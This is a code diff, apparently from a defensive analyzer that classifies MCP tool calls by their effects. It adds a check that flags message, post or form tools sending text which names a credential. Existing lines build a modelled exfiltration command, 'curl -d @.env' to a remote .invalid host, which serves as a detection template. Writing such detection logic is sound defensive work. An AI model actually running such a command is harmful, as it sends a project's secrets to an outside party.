@@ -15,6 +15,7 @@ import { bodySecret, bodyTokenMention, urlHost, urlSecret, urlTokenMention } fro
 import { mcpFlows } from './mcp-flow.js';
 import { mcpToolEffects } from './mcp-tools.js';
 import { mcpSaasEffects } from './mcp-saas.js';
+import { outboundSecret, sendsText, sentText } from './outbound-secrets.js';
 import { mcpSecretReads } from './mcp-secret-reads.js';
 import { mcpShareEffects } from './mcp-shares.js';
 import { mcpTamperEffects } from './mcp-tamper.js';
@@ -182,6 +183,16 @@ function mcpEffects(call: ToolCall, cache: EffectCache): Effect[] {
         tool: 'exec',
         command: `curl -d @.env https://${remote.replace(/[^\w.-]/g, '') || 'remote'}.invalid/`,
         via: `MCP ${op} sends a secret (${hit[0].slice(0, 12)}...) to ${remote}`,
+      });
+  }
+  // a credential cut short, encoded or named in prose in text a message, post or form tool sends
+  if (!path && !out.some((e) => e.command?.startsWith('curl -d @.env')) && sendsText(op)) {
+    const named = outboundSecret(sentText(p));
+    if (named)
+      out.push({
+        tool: 'exec',
+        command: `may-expose-secret sends a credential (${named.slice(0, 12).replace(/[^\w-]/g, '_')}...)`,
+        via: `MCP ${op} sends text naming a credential (${named.slice(0, 12)}...)`,
       });
   }
   const cmd = str('command') ?? str('cmd') ?? argvLine(p['args'] ?? p['argv']);
